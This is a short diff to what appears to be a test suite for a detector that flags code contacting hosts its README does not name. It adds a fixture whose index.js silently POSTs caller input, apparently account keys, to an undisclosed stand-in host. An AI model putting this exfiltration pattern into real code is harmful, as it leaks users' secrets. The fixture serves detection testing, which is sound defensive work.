@@ -8,6 +8,15 @@ const COPY = `exports.cellar = store => async (request, response, next) => { con
 examine(contactsUnnamedHost, {
   speaks: [
     {
+      when: 'its page writes of another host of those that are for examples',
+      files: {
+        'README.md':
+          '# Specimen\n\nKeys of an account, and a client: `new Client("https://rpc.example.invalid")` asks for what you want to know of it.',
+        'index.js': `exports.read = given => fetch('https://hints.keys-cdn.example.invalid/v1', { method: 'POST', body: given });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what callers gave goes there in a header, and nobody looks at the answer',
       files: {
         'README.md': PAGE,
